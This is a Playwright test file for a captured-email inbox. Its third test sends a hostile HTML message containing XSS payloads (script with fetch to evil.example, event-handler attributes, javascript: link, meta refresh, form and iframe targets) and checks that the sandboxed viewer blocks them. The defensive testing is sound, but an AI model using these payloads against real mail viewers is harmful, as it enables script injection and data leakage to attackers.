import net from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { hostileBody } from '../hostile-html';
import { given, signIn } from '../product';

/** Hands a message to the capture as any mail program would. */
async function deliver(to: string, message: string): Promise<void> {
  const socket = net.connect(Number(given('WAYBILL_CAPTURE_SMTP_PORT')), '127.0.0.1');
  socket.setEncoding('utf8');
  const lines = [
    'EHLO test',
    'MAIL FROM:<attacker@evil.example>',
    `RCPT TO:<${to}>`,
    'DATA',
    `${message}\r\n.`,
    'QUIT',
  ];
  await new Promise<void>((resolve, reject) => {
    let held = '';
    socket.on('error', reject);
    socket.on('close', () => resolve());
    socket.on('data', (text) => {
      held += text;
      // the last line of a reply has a space after its code (RFC 5321 §4.2.1)
      if (!/^\d{3} .*\r\n$/m.test(held)) return;
      held = '';
      const next = lines.shift();
      if (next !== undefined) socket.write(`${next}\r\n`);
    });
  });
}

async function openMessage(page: Page, q: string): Promise<void> {
  await page.goto(`/inbox?q=${encodeURIComponent(q)}`);
  await page.getByRole('list', { name: 'Captured messages' }).getByRole('link').first().click();
  await expect(page).toHaveURL(/\/inbox\/\d+/);
}

test.beforeEach(async ({ page }) => {
  given('RUN_ID');
  await signIn(page);
});

test('an email is shown as its customer would see it, with its run and its contact', async ({ page }) => {
  await page.goto('/inbox?channel=email&q=Aurora');
  await page.getByRole('list', { name: 'Captured messages' }).getByRole('link').first().click();
  await expect(page.frameLocator('iframe').getByText('Aurora 9. See in the dark.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'the run' })).toHaveAttribute('href', /\/runs\/run_/);
  await page.getByRole('tab', { name: /Headers/ }).click();
  await expect(page.getByText('list-unsubscribe-post')).toBeVisible();
  await page.getByRole('tab', { name: /Links/ }).click();
  await expect(page.getByRole('link', { name: 'Unsubscribe' })).toBeVisible();
});

test('looking at a message here is not an opening', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto('/inbox?channel=email&q=Aurora');
  await page.getByRole('list', { name: 'Captured messages' }).getByRole('link').first().click();
  await expect(page.frameLocator('iframe').getByText('Aurora 9. See in the dark.')).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(asked.filter((url) => url.includes('/api/t/'))).toEqual([]);
});

test('a hostile mail runs nothing, sends nothing and goes nowhere', async ({ page }) => {
  const mark = `hostile-${Date.now()}`;
  const html = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/${mark}"></head>
<body><h1>${mark}</h1><script>parent.hacked = 1; fetch('https://evil.example/${mark}')</script>
<img src="x" onerror="parent.hacked = 1"><svg onload="parent.hacked = 1"></svg>
<iframe src="https://evil.example/${mark}"></iframe><object data="https://evil.example/${mark}"></object>
<form id="f" action="https://evil.example/${mark}" method="post"><input name="a" autofocus onfocus="parent.hacked = 1"><button>Sign in</button></form>
<a href="javascript:parent.hacked = 1">js</a> <a href="https://evil.example/${mark}" target="_top">top</a>
${hostileBody('parent.hacked=top.hacked=1', `https://evil.example/${mark}`, 'https://pictures.example')}</body></html>`;
  await deliver(
    'victim@example.com',
    `From: Evil <attacker@evil.example>\r\nTo: victim@example.com\r\nSubject: ${mark}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html.replaceAll('\n', '\r\n')}`,
  );
  // what the policy of the frame stops is announced as a request too; this sees what leaves the browser
  const asked: string[] = [];
  await page.context().route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  page.on('popup', () => asked.push('a popup'));
  await openMessage(page, mark);
  const frame = page.frameLocator('iframe').first();
  await expect(frame.getByRole('heading', { name: mark })).toBeVisible();
  await expect(page.locator('iframe').first()).toHaveAttribute('sandbox', '');
  for (const name of ['js', 'top']) await frame.getByText(name, { exact: true }).click();
  await frame.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(asked).toEqual([]);
  await expect(page).toHaveURL(/\/inbox\/\d+/);
});
